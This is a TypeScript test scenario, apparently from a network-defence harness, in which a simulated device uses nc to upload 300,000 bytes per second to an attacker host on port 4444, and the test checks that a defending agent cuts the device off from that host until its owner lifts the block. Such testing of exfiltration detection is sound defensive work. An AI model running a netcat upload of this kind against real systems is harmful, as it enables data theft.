/** A device that sends what it knows to a stranger, over a bare connection. */
import { rawUpload } from '../attacks.ts';
import { tryPort } from '../conversations.ts';
import { expectCutAndLifted } from '../cut-destination.ts';
import type { Scenario } from '../scenario.ts';
import { startStranger } from '../stranger.ts';

const port = 4444;

export const scenario: Scenario = {
  group: 'attacks',
  attack: 'data_exfiltration',
  expectation:
    'nc on the device uploads 300,000 bytes to one host outside every second: the device is kept from that host and from nobody else, until its owner lifts it.',
  needs: ['busybox'],
  honestClientVisits: 'neighbour',
  limitSeconds: 300,
  async run(field) {
    const agent = await field.startAgent();
    const { attacker: thief, device } = field.network;
    await startStranger(field.network, thief, 'silence', port);
    await expectCutAndLifted(field, agent, rawUpload(thief.address, port, 300_000), {
      what: 'the stranger',
      isReached: () => tryPort(device.namespace, thief.address, port),
    });
  },
};
